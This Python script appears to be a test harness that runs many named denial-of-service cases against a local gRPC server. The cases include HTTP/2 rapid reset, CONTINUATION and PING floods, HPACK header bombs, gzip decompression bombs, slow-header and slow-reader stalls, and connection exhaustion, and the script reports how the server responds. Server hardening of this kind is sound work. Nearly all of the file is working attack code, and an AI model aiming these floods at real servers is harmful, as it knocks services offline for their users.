"""Attacks a gRPC server. Each case is `name port`; prints what became of the attacker."""

import gzip
import itertools
import select
import socket
import struct
import sys
import time
from pathlib import Path

from attacker import CONVERSE, DATA, ECHO, ENDINGS, EXPAND, GOAWAY, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS
from attacker import Attacker, field, frame, message, varint
from hyperframe.frame import ContinuationFrame, HeadersFrame

WINDOW_UPDATE, PRIORITY, ALTSVC, ORIGIN, PRIORITY_UPDATE = 8, 2, 10, 12, 16
NESTED, KEEP, STUBBORN, DEAF = (f"/attacks.Target/{name}" for name in ["Nested", "Keep", "Stubborn", "Deaf"])


def odd(count, start=1):
    return range(start, start + 2 * count, 2)


def reset(stream, code=8):
    return frame(RST_STREAM, 0, stream, struct.pack(">I", code))


# Streams and resets

def case_rapid_reset(port):
    attacker = Attacker(port, acknowledges=False)
    attacker.flood(attacker.head(stream) + reset(stream) for stream in odd(20_000))
    return attacker.ending()


def provoked(port, offence, extra=()):
    """Has the server reset stream after stream, also those it would refuse for their number."""
    attacker = Attacker(port, acknowledges=False)
    attacker.flood(attacker.head(stream, extra=extra) + offence(stream) for stream in odd(20_000))
    return attacker.ending()


def case_made_you_reset_window(port):
    # Past 2^31-1 a window overflows.
    return provoked(port, lambda stream: frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 2**31 - 1)))


def case_made_you_reset_content_length(port):
    # A body longer than was said.
    return provoked(port, lambda stream: frame(DATA, 0, stream, b"xx"), [("content-length", "1")])


def case_data_after_the_end(port):
    attacker = Attacker(port)
    attacker.send(attacker.head(1) + frame(DATA, 1, 1, b"") + frame(DATA, 0, 1, b"x"))
    return attacker.ending()


def case_endless_streams(port):
    # Never acknowledges the server's settings, so that it must take the limit for not known.
    attacker = Attacker(port, acknowledges=False)
    attacker.flood(attacker.head(stream, CONVERSE) for stream in odd(20_000))
    return attacker.ending()


def case_streams_past_the_limit(port):
    # The limit is acknowledged and passed all the same.
    attacker = Attacker(port)
    attacker.wait(lambda: attacker.has_settings)
    attacker.send(b"".join(attacker.head(stream, CONVERSE) for stream in odd(300)))
    return attacker.ending()


def case_streams_over_the_limit(port):
    # In one go, as a client does that has not read our settings yet.
    attacker = Attacker(port, acknowledges=False)
    attacker.send(b"".join(attacker.head(stream, CONVERSE) for stream in odd(300)))
    return attacker.answers(odd(300)[-44:], 5)


def case_abandoned_handlers(port):
    # Calls whose handlers do not listen when they are cancelled.
    attacker = Attacker(port)
    for streams in odd(150), odd(150, start=301):
        attacker.send(b"".join(attacker.call(stream, path=STUBBORN) for stream in streams))
        attacker.round_trip()
        attacker.send(b"".join(reset(stream) for stream in streams))
    attacker.send(attacker.call(601, path=STUBBORN))
    return attacker.answer(601)


# Header blocks

def case_continuation_flood(port):
    attacker = Attacker(port, acknowledges=False)
    attacker.send(HeadersFrame(1, attacker.encoder.encode([(":method", "POST")])).serialize())
    attacker.flood(ContinuationFrame(1, attacker.encoder.encode([("a", "b" * 50)])).serialize()
                   for _ in range(20_000))
    return attacker.ending()


def case_slow_headers(port):
    attacker = Attacker(port, acknowledges=False)
    block = attacker.encoder.encode([(":method", "POST"), (":scheme", "http"), (":path", ECHO)])
    attacker.send(len(block).to_bytes(3, "big") + bytes([HEADERS, 4]) + (1).to_bytes(4, "big"))
    return drip(attacker, block)


def case_slow_continuations(port):
    attacker = Attacker(port, acknowledges=False)
    attacker.send(HeadersFrame(1, attacker.encoder.encode([(":method", "POST")])).serialize())
    return drip(attacker, [ContinuationFrame(1, b"").serialize()] * 6)


def drip(attacker, pieces, interval=0.1):
    """Sends piece by piece, slowly, until the server has enough."""
    for piece in pieces:
        if attacker.wait(lambda: attacker.goaway is not None, interval) or attacker.is_over:
            break
        if not attacker.send(bytes([piece]) if isinstance(piece, int) else piece):
            break
    return attacker.ending()


def bomb(attacker, stream, references):
    # One-byte references to the large entry that the first request left in the dynamic table.
    fields = [(":method", "POST"), (":scheme", "http"), (":path", ECHO), (":authority", "x")]
    block = attacker.encoder.encode(fields) + b"\xbe" * references
    return HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]).serialize()


def armed(port):
    attacker = Attacker(port)
    attacker.send(attacker.head(1, extra=[("x-bomb", "b" * 3000)], end=True))
    return attacker


def case_header_bomb(port):
    attacker = armed(port)
    attacker.send(bomb(attacker, 3, 20))
    return attacker.answer(3)


def case_header_bombs(port):
    attacker = armed(port)
    attacker.flood(bomb(attacker, stream, 20) for stream in odd(20_000, 3))
    return attacker.ending()


def case_large_header_bomb(port):
    attacker = armed(port)
    attacker.send(bomb(attacker, 3, 16_000))
    return attacker.ending()


def case_too_many_fields(port):
    attacker = Attacker(port)
    attacker.send(attacker.head(1, extra=[(f"x-{number}", "v") for number in range(200)], end=True))
    return attacker.answer(1)


def case_cookie_crumbs(port):
    attacker = Attacker(port)
    attacker.send(attacker.head(1, extra=[("cookie", f"a{number}=b") for number in range(200)], end=True))
    return attacker.answer(1)


def case_large_header_list(port):
    attacker = Attacker(port)
    attacker.send(attacker.head(1, extra=[(f"x-{number}", "v" * 3000) for number in range(4)], end=True))
    small = attacker.answer(1)
    attacker.send(attacker.head(3, extra=[(f"x-{number}", "b" * 1000) for number in range(17)], end=True))
    return f"{small}, {attacker.answer(3)}"


def case_heads_that_are_no_request(port):
    # They have no path. Each comma ends a value, which has the field's name with it in memory.
    attackers = [Attacker(port) for _ in range(200)]
    for attacker in attackers:
        block = attacker.encoder.encode([(":method", "POST"), (":scheme", "http"), ("a-bin", "," * 15_000)])
        attacker.send(frame(HEADERS, 4, 1, block))
    return " ".join({attacker.answer(1) for attacker in attackers})


# Frames that want an answer, or nothing

def flood_with(port, data):
    attacker = Attacker(port)
    attacker.flood(data for _ in range(2_000))
    return attacker.ending()


def case_ping_flood(port):
    return flood_with(port, frame(PING, 0, 0, b"12345678") * 100)


def case_settings_flood(port):
    return flood_with(port, frame(SETTINGS, 0, 0, b"") * 100)


def case_priority_flood(port):
    return flood_with(port, frame(PRIORITY, 0, 1, b"\0\0\0\0\1") * 100)


def case_window_flood(port):
    return flood_with(port, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 100)


def case_window_flood_on_streams(port):
    # A stream's window stays below its limit, and streams that are over are let pass by nghttp2.
    attacker = Attacker(port)
    attacker.send(attacker.call(1) + attacker.head(3, CONVERSE))
    attacker.wait(lambda: 1 in attacker.headers)
    updates = b"".join(frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 1)) for stream in (1, 3))
    attacker.flood(updates * 100 for _ in range(2_000))
    return attacker.ending()


def case_window_updates(port):
    # As many as a client may have a reason for: each answer is taken in small pieces.
    attacker = Attacker(port)
    update = struct.pack(">I", 1)
    streams = odd(300)
    for stream in streams:
        attacker.send(attacker.head(stream) + frame(WINDOW_UPDATE, 0, stream, update)
                      + frame(DATA, 1, stream, message(b"")) + frame(WINDOW_UPDATE, 0, 0, update) * 15)
        attacker.answer(stream)
    return attacker.answers(streams)


def case_unknown_frame_flood(port):
    return flood_with(port, frame(0xFA, 0, 0, b"what is this") * 100)


def case_priority_update_flood(port):
    return flood_with(port, frame(PRIORITY_UPDATE, 0, 0, struct.pack(">I", 1) + b"u=1") * 100)


def case_altsvc_flood(port):
    return flood_with(port, frame(ALTSVC, 0, 0, b"\0\1xclear") * 100)


def case_origin_flood(port):
    return flood_with(port, frame(ORIGIN, 0, 0, b"") * 100)


def case_goaway_flood(port):
    # With a stream open: a client that has none and says goodbye is let go.
    attacker = Attacker(port)
    attacker.send(attacker.head(1, CONVERSE))
    attacker.flood(frame(GOAWAY, 0, 0, bytes(8)) * 100 for _ in range(2_000))
    return attacker.ending()


def case_reset_flood(port):
    # Of one stream, again and again after it is over.
    attacker = Attacker(port)
    attacker.send(attacker.call(1))
    attacker.answer(1)
    attacker.flood(reset(1) * 100 for _ in range(2_000))
    return attacker.ending()


def case_idle_reset(port):
    attacker = Attacker(port)
    attacker.send(reset(1))
    return attacker.ending()


def case_empty_data_flood(port):
    attacker = Attacker(port)
    attacker.send(attacker.head(1, CONVERSE))
    attacker.flood(frame(DATA, 0, 1, b"") * 100 for _ in range(2_000))
    return attacker.ending()


def case_padding_flood(port):
    attacker = Attacker(port)
    attacker.send(attacker.head(1, CONVERSE))
    attacker.flood(frame(DATA, 8, 1, b"\3\0\0\0") * 100 for _ in range(2_000))
    return attacker.ending()


def case_padded_messages(port):
    # Many small messages, each hidden among padding.
    attacker = Attacker(port)
    streams = odd(600)
    for stream in streams:
        body = message(field(1, b"x"))
        attacker.send(attacker.head(stream) + frame(DATA, 8, stream, b"\x20" + body + bytes(32))
                      + frame(DATA, 1, stream, b""))
        attacker.answer(stream)
    return attacker.answers(streams)


def case_single_bytes(port):
    # A message a byte at a time, to a handler that reads it.
    attacker = Attacker(port)
    attacker.send(attacker.head(1) + frame(DATA, 0, 1, b"\0" + struct.pack(">I", 4_000_000)))
    attacker.flood(frame(DATA, 0, 1, b"x") * 100 for _ in range(2_000))
    return attacker.ending()


def case_torn_messages(port):
    # Many small messages, each with a frame for its prefix and one for its content.
    attacker = Attacker(port)
    attacker.send(attacker.head(1, CONVERSE))
    whole = message(field(1, b"x"))
    attacker.flood((frame(DATA, 0, 1, whole[:5]) + frame(DATA, 0, 1, whole[5:])) * 100 for _ in range(20))
    attacker.send(frame(DATA, 1, 1, b""))
    return attacker.answer(1)


def case_stray_data(port):
    # Several windows of frames on a stream that is over.
    attacker = Attacker(port)
    attacker.send(attacker.call(1))
    first = attacker.answer(1)
    small, large = frame(DATA, 0, 1, b"x" * 5) * 1000, frame(DATA, 0, 1, b"x" * 16_384) * 10
    attacker.flood(itertools.chain(itertools.repeat(small, 500), itertools.repeat(large, 50)))
    attacker.send(attacker.call(3))
    return f"{first}, {attacker.answer(3)}"


def case_pings_with_calls(port):
    # A client that measures the round trip with each response is no attacker.
    attacker = Attacker(port)
    for stream in odd(20):
        attacker.send(frame(PING, 0, 0, b"12345678") + attacker.call(stream))
        if attacker.answer(stream) != "status 0":
            return attacker.ending()
    return "answered"


def case_pings_on_a_stream(port):
    attacker = Attacker(port)
    attacker.send(attacker.head(1, CONVERSE) + frame(PING, 0, 0, b"12345678") * 4)
    return attacker.ending()


def case_ping_strikes(port):
    # Three PINGs are let pass, the first for nothing and two as strikes.
    attacker = Attacker(port)
    attacker.send(frame(PING, 0, 0, b"12345678") * 3 + attacker.call(1))
    before = attacker.answer(1)
    attacker.send(frame(PING, 0, 0, b"12345678") * 4)
    return f"{before}, {attacker.ending()}"


# Waiting

def case_slow_reader(port):
    # Opens its windows as wide as they go and reads nothing.
    attacker = Attacker(port, settings={4: 2**31 - 1}, receive_buffer=4096)
    attacker.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1 - 65535)))
    request = field(1, b"x" * 10_000) + b"\x10" + varint(1_000_000)
    for stream in odd(8):
        attacker.send(attacker.call(stream, request, EXPAND))
    return unread(attacker)


def unread(attacker):
    """Waits for the end without reading what comes before it."""
    watcher = select.poll()
    watcher.register(attacker.socket, select.POLLHUP | select.POLLERR)
    events = watcher.poll(60_000)
    return attacker.timed("closed" if events else "still open")


def case_dripping_reader(port):
    attacker = Attacker(port, settings={4: 2**31 - 1}, receive_buffer=4096)
    attacker.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1 - 65535)))
    request = field(1, b"x" * 10_000) + b"\x10" + varint(1_000_000)
    attacker.send(attacker.call(1, request, EXPAND))
    watcher = select.poll()
    watcher.register(attacker.socket, select.POLLHUP | select.POLLERR)
    for _ in range(100):
        if watcher.poll(100):
            return attacker.timed("closed")
        attacker.socket.recv(64)
    return attacker.timed("still open")


def case_unread_answers(port):
    # Each call is answered by headers alone, or refused, which no window holds back.
    attacker = Attacker(port, receive_buffer=4096)
    fields = [(":method", "POST"), (":scheme", "http"), (":path", "/" + "n" * 150, True), (":authority", "x"),
              ("te", "trailers"), ("content-type", "application/grpc")]
    attacker.socket.settimeout(1)
    attacker.socket.sendall(HeadersFrame(1, attacker.encoder.encode(fields), flags=["END_HEADERS"]).serialize())
    block = attacker.encoder.encode(fields)
    try:
        for first in range(3, 4_000_000, 1000):
            attacker.socket.sendall(b"".join(frame(HEADERS, 5, stream, block) for stream in range(first, first + 1000, 2)))
    except TimeoutError:
        return "not read on, " + unread(attacker)
    except ENDINGS:
        return attacker.ending()
    return "still open"


def case_slow_sender(port):
    attacker = Attacker(port)
    attacker.send(attacker.head(1) + frame(DATA, 0, 1, b"\0\0\0\0\x64"))
    for _ in range(100):
        if attacker.wait(lambda: 1 in attacker.resets or attacker.is_over, 0.1):
            break
        attacker.send(frame(DATA, 0, 1, b"x"))
    return attacker.timed(attacker.answer(1))


def case_endless_call(port):
    attacker = Attacker(port)
    attacker.send(attacker.head(1, CONVERSE))
    return attacker.timed(attacker.answer(1))


def case_vanished(port):
    # Not a word more once a call is open, as of a client whose network is gone.
    attacker = Attacker(port)
    attacker.send(attacker.head(1, CONVERSE))
    words = attacker.ending()
    return f"{attacker.pings} PING, {words}"


def case_silent(port):
    # Nothing but answers to PINGs for a while, with a call open.
    attacker = Attacker(port)
    attacker.answers_pings = True
    attacker.send(attacker.head(1, CONVERSE))
    attacker.wait(lambda: attacker.pings == 3)
    attacker.send(frame(DATA, 1, 1, message(b"")))
    return attacker.answer(1)


def case_half_open(port):
    idle = [Attacker(port, greets=False, acknowledges=False) for _ in range(200)]
    return last(idle)


def case_partial_preface(port):
    attackers = [Attacker(port, greets=False, acknowledges=False) for _ in range(50)]
    for attacker in attackers:
        attacker.send(PREFACE[:20])
    return last(attackers)


def case_preface_without_settings(port):
    attackers = [Attacker(port, greets=False, acknowledges=False) for _ in range(50)]
    for attacker in attackers:
        attacker.send(PREFACE)
    return last(attackers)


def last(attackers):
    """The endings of all, as one where they are the same, with the time of the last."""
    for attacker in attackers[:-1]:
        if not attacker.wait(lambda: attacker.is_over):
            return "still open"
    return attackers[-1].ending()


def case_idle(port):
    return Attacker(port).ending()


def case_tls_half_open(port):
    return last([Attacker(port, greets=False, acknowledges=False) for _ in range(50)])


def case_tls_dripped_hello(port):
    # The start of a ClientHello, a byte at a time.
    attacker = Attacker(port, greets=False, acknowledges=False)
    return drip(attacker, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"x" * 100)


def case_tls_flood(port):
    # Faster than the server can read, on a connection that TLS would have it read to the end.
    attacker = Attacker(port, tls=True)
    data = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 5_000
    until = time.monotonic() + 2
    attacker.flood(itertools.takewhile(lambda _: time.monotonic() < until, itertools.repeat(data)))
    attacker.send(attacker.call(1))
    return attacker.answer(1)


def case_zero_window(port):
    # Wants 64 KiB from each stream and takes none of it.
    attacker = Attacker(port, settings={4: 0})
    for stream in odd(200):
        attacker.send(attacker.call(stream, field(2, b"x" * 65_000)))
    return attacker.timed(attacker.answers(odd(200), 60))


def case_exact_window(port):
    # The first response fills the window, so that none of it waits here, and the status cannot go out.
    whole = message(field(1, b"x"))
    attacker = Attacker(port, settings={4: len(whole)})
    attacker.send(attacker.head(1, CONVERSE) + frame(DATA, 0, 1, whole))
    return attacker.timed(attacker.answer(1))


def case_full_window(port):
    # Messages that a handler does not read: a stream's window is full with the 16th, the
    # connection's with the fourth stream.
    attacker = Attacker(port)
    attacker.wait(lambda: attacker.has_settings)
    whole = message(field(2, b"x" * (16_384 - 8)))
    for stream in odd(5):
        attacker.send(attacker.head(stream, DEAF))
        for _ in range(17 if stream == 1 else 16):
            attacker.send(frame(DATA, 0, stream, whole))
    return f"{attacker.answer(1)}, {attacker.ending()}"


def case_unread_streams(port):
    # As many as their windows take on some streams, then a call on another one.
    attacker = Attacker(port)
    attacker.wait(lambda: attacker.has_settings)
    whole = message(field(2, b"x" * (16_384 - 8)))
    for stream in odd(8):
        attacker.send(attacker.head(stream, DEAF) + frame(DATA, 0, stream, whole) * 16)
    attacker.send(attacker.call(17))
    return attacker.answer(17)


def case_gzip_bombs(port):
    # A kilobyte each that becomes a megabyte, to a handler that does not read.
    attacker = Attacker(port)
    bomb = gzip.compress(field(2, b"x" * 1_000_000))
    framed = b"\1" + struct.pack(">I", len(bomb)) + bomb
    attacker.send(attacker.head(1, DEAF, extra=[("grpc-encoding", "gzip")]))
    for _ in range(20):
        attacker.send(frame(DATA, 0, 1, framed))
    return attacker.answer(1)


def case_gzip_bombs_in_calls(port):
    # A kilobyte each that becomes a megabyte, all at once; then one more, once the connection is read again.
    attacker = Attacker(port)
    bomb = gzip.compress(field(2, b"x" * 1_000_000))
    framed = b"\1" + struct.pack(">I", len(bomb)) + bomb
    streams = odd(40)
    attacker.send(b"".join(
        attacker.head(stream, KEEP, extra=[("grpc-encoding", "gzip")]) + frame(DATA, 1, stream, framed)
        for stream in streams))
    attacker.round_trip()
    statuses = [attacker.headers.get(stream, {}).get("grpc-status") for stream in streams]
    attacker.send(attacker.call(81))
    return f"{statuses.count('8')} x status 8, then {attacker.answer(81)}"


def case_gzip_bombs_past_the_limit(port):
    # Four kilobytes each that become a byte more than a message may have; then a call.
    attacker = Attacker(port)
    bomb = gzip.compress(b"\0" * (4 * 1024 * 1024 + 1))
    framed = b"\1" + struct.pack(">I", len(bomb)) + bomb
    streams = odd(3)
    attacker.send(b"".join(
        attacker.head(stream, extra=[("grpc-encoding", "gzip")]) + frame(DATA, 1, stream, framed)
        for stream in streams))
    refused = attacker.answers(streams)
    attacker.send(attacker.call(7))
    return attacker.timed(f"{refused}, then {attacker.answer(7)}")


def case_wide_messages(port):
    # Two bytes for each of many messages within one, to a handler that keeps it.
    attacker = Attacker(port)
    for stream in odd(60):
        attacker.send(attacker.call(stream, field(2, b"") * 20_000, KEEP))
        attacker.round_trip()
    return kept_and_refused(attacker, odd(60))


def case_refused_wide_messages(port):
    # As above, each too large to be held, while an answer that nobody reads keeps the refusals from going out.
    attacker = Attacker(port, settings={4: 2**31 - 1})
    attacker.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1 - 65535)))
    attacker.send(attacker.call(1, field(1, b"x" * 10_000) + b"\x10" + varint(1_000_000), EXPAND))
    time.sleep(0.5)
    streams = odd(60, 3)
    for stream in streams:
        attacker.send(attacker.call(stream, field(2, b"") * 40_000, KEEP))
    attacker.send(reset(1))
    return attacker.answers(streams)


def kept_and_refused(attacker, streams):
    refused = [stream for stream in streams if attacker.headers.get(stream, {}).get("grpc-status") == "8"]
    return f"{len(streams) - len(refused)} kept, {len(refused)} x status 8"


def case_tiny_messages(port):
    # Windows full of messages without content, to a handler that does not read.
    attacker = Attacker(port)
    attacker.wait(lambda: attacker.has_settings)
    for stream in 1, 3:
        attacker.send(attacker.head(stream, DEAF))
        for _ in range(16):
            attacker.send(frame(DATA, 0, stream, message(b"") * 3276))
    attacker.round_trip()
    return kept_and_refused(attacker, [1, 3])


def case_held_messages_of_one_address(port):
    # Another one than that of the client at the side.
    return case_held_messages(port, "127.0.0.2")


def case_held_messages(port, source=None):
    # Messages that are never complete, as fast as the windows allow.
    attacker = Attacker(port, source=source)
    streams = list(odd(50))
    for stream in streams:
        attacker.send(attacker.head(stream) + frame(DATA, 0, stream, b"\0" + struct.pack(">I", 4_000_000)))
    for _ in range(60):
        for stream in streams:
            attacker.send(frame(DATA, 0, stream, b"x" * 16_384))
        attacker.round_trip()
        streams = [stream for stream in streams if stream not in attacker.resets]
    answered = set(attacker.headers[stream]["grpc-status"] for stream in attacker.headers)
    return attacker.goaway or f"{len(streams)} left, the others: {' '.join(answered)}"


def case_open_calls_with_metadata(port):
    # Ten bytes for each further call, whose head indexes 15 KB of metadata; none sends its request.
    attackers = [Attacker(port, source="127.0.0.2") for _ in range(12)]
    kept = 0
    for attacker in attackers:
        fields = [("x-large", "m" * 3000)] * 5
        for stream in odd(256):
            attacker.send(attacker.head(stream, extra=fields))
        attacker.round_trip()
        kept += 256 - sum(fields.get("grpc-status") == "8" for fields in attacker.headers.values())
    return f"{kept} kept"


def case_open_calls(port):
    # As many as the streams of some connections, with an id and a trace, all open before the first is ended.
    attackers = [Attacker(port) for _ in range(4)]
    extra = [("x-request-id", "r" * 36), ("traceparent", "t" * 55), ("user-agent", "test/1")]
    for attacker in attackers:
        attacker.send(b"".join(attacker.head(stream, extra=extra) for stream in odd(256)))
        attacker.round_trip()
    for attacker in attackers:
        attacker.send(b"".join(frame(DATA, 1, stream, message(b"")) for stream in odd(256)))
    return ", ".join(attacker.answers(odd(256)) for attacker in attackers)


# What no client sends

def case_decreasing_stream(port):
    attacker = Attacker(port)
    attacker.send(attacker.call(5) + attacker.call(3))
    return attacker.ending()


def case_forgotten_gaps(port):
    # Only the last gaps are remembered; what comes in an older one is dropped in silence.
    attacker = Attacker(port)
    for stream in range(3, 203, 4):
        attacker.send(attacker.call(stream))
    attacker.send(attacker.call(1) + attacker.call(301))
    return f"{attacker.answer(301)}, {attacker.answer(1, 0)}"


def case_trailers_of_requests(port):
    # The end of the stream is on the trailers; the deadlines pass when the calls are over.
    attacker, timeout = Attacker(port), [("grpc-timeout", "300m")]
    body = message(field(1, b"x"))
    for stream, path in (1, ECHO), (3, CONVERSE):
        attacker.send(attacker.head(stream, path, timeout) + frame(DATA, 0, stream, body) + trailers(attacker, stream))
    head = attacker.encoder.encode([(":method", "GET"), (":scheme", "http"), (":path", ECHO), (":authority", "x")])
    attacker.send(HeadersFrame(5, head, flags=["END_HEADERS"]).serialize() + trailers(attacker, 5))
    answers = [attacker.answer(stream) for stream in (1, 3, 5)]
    attacker.wait(lambda: False, 0.5)
    attacker.send(attacker.call(7))
    return ", ".join(answers + [attacker.answer(7)])


def trailers(attacker, stream):
    block = attacker.encoder.encode([("x-sum", "1")])
    return HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]).serialize()


def case_late_trailers(port):
    # Trailers on a stream that the server has reset meanwhile: no offence.
    attacker = Attacker(port)
    attacker.send(attacker.head(1, CONVERSE, extra=[("grpc-timeout", "50m")]))
    first = attacker.answer(1)
    block = attacker.encoder.encode([("x-checksum", "1")])
    attacker.send(HeadersFrame(1, block, flags=["END_HEADERS", "END_STREAM"]).serialize())
    attacker.send(attacker.call(3))
    return f"{first}, {attacker.answer(3)}"


def case_skipped_streams(port):
    # Numbers may be left out as long as they grow.
    attacker = Attacker(port)
    for stream in range(1, 2001, 20):
        attacker.send(attacker.call(stream))
    return attacker.answers(range(1, 2001, 20))


def case_oversized_frame(port):
    attacker = Attacker(port)
    attacker.send(attacker.head(1) + frame(DATA, 0, 1, b"x" * 20_000))
    return attacker.ending()


def case_oversized_message(port):
    attacker = Attacker(port)
    attacker.send(attacker.head(1) + frame(DATA, 0, 1, b"\0" + struct.pack(">I", 4 * 1024 * 1024 + 1)))
    return attacker.answer(1)


def case_garbage(port):
    attacker = Attacker(port, greets=False, acknowledges=False)
    attacker.send(b"\xff" * 100_000)
    return attacker.ending()


def case_garbage_without_end(port):
    # Hears that the connection is over and goes on sending.
    attacker = Attacker(port, greets=False, acknowledges=False)
    attacker.send(b"\xff" * 1000)
    words = attacker.ending()
    try:
        for _ in range(100):
            attacker.socket.sendall(b"\xff")
            time.sleep(0.05)
    except ENDINGS:
        pass
    return attacker.timed(words.split(" after")[0])


def case_http1(port):
    attacker = Attacker(port, greets=False, acknowledges=False)
    attacker.send(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
    return attacker.ending()


def case_nested_message(port):
    attacker = Attacker(port)
    inner = b""
    while len(inner) < 60_000:
        inner = field(1, inner)
    attacker.send(attacker.call(1, inner, NESTED))
    return attacker.answer(1)


# Descriptors

def case_connections_of_one_address(port):
    """Another address than the client's at the side; the server greets those that it serves with its SETTINGS."""
    def connect():
        connection = socket.create_connection(("127.0.0.1", port), source_address=("127.0.0.2", 0))
        connection.settimeout(10)
        return connection
    held = [connect() for _ in range(50)]
    served = [connection for connection in held if greeted(connection)]
    served[0].close()
    deadline = time.monotonic() + 10
    while not greeted(connect()):
        if time.monotonic() > deadline:
            return f"{len(served)} served, then none"
    return f"{len(served)} served, then a further one"


def greeted(connection):
    try:
        return connection.recv(1) != b""
    except ConnectionResetError:
        return False


def case_calls_of_one_address(port):
    """Connections of another address than the client's at the side, with streams that stay open."""
    attackers = [Attacker(port, source="127.0.0.2") for _ in range(3)]
    refused = 0
    for attacker in attackers:
        attacker.send(b"".join(attacker.head(stream, CONVERSE) for stream in odd(10)))
        attacker.round_trip()
        refused += sum(fields.get("grpc-status") == "8" for fields in attacker.headers.values())
    return f"{refused} x status 8"


def outlasting_calls(port, source):
    """Ends a connection whose ten handlers go on; how many were refused."""
    attacker = Attacker(port, source=source)
    attacker.send(b"".join(attacker.call(stream, path=STUBBORN) for stream in odd(10)))
    attacker.round_trip()
    attacker.abort()
    return sum(fields.get("grpc-status") == "8" for fields in attacker.headers.values())


def case_calls_of_who_comes_again(port):
    # Never more than one connection at a time.
    return " ".join(str(outlasting_calls(port, "127.0.0.2")) for _ in range(3)) + " refused"


def case_addresses_past_those_remembered(port):
    sources = ["127.0.0.2", "127.0.0.3"] * 2
    return " ".join(str(outlasting_calls(port, source)) for source in sources) + " refused"


def case_gzip_bombs_of_who_comes_again(port):
    # A bomb, then small messages on connections of their own until one is taken.
    statuses = []
    for content in itertools.chain([b"\0" * (4 * 1024 * 1024 + 1)], itertools.repeat(b"")):
        attacker = Attacker(port, source="127.0.0.2")
        packed = gzip.compress(content)
        attacker.send(attacker.head(1, extra=[("grpc-encoding", "gzip")])
                      + frame(DATA, 1, 1, b"\1" + struct.pack(">I", len(packed)) + packed))
        statuses.append(attacker.answer(1))
        attacker.abort()
        if statuses[-1] != "status 8":
            return f"{statuses[1]}, then {statuses[-1]}"


def case_many_connections(port):
    """More connections than the server has descriptors for, held for a second, then a call on a new one."""
    sockets = [socket.create_connection(("127.0.0.1", port)) for _ in range(200)]
    time.sleep(1)
    for held in sockets:
        held.close()
    attacker = Attacker(port)
    attacker.send(attacker.call(1))
    return attacker.answer(1)


for line in Path(sys.argv[1]).read_text().splitlines():
    name, port = line.split()
    print(globals()[f"case_{name}"](int(port)), flush=True)
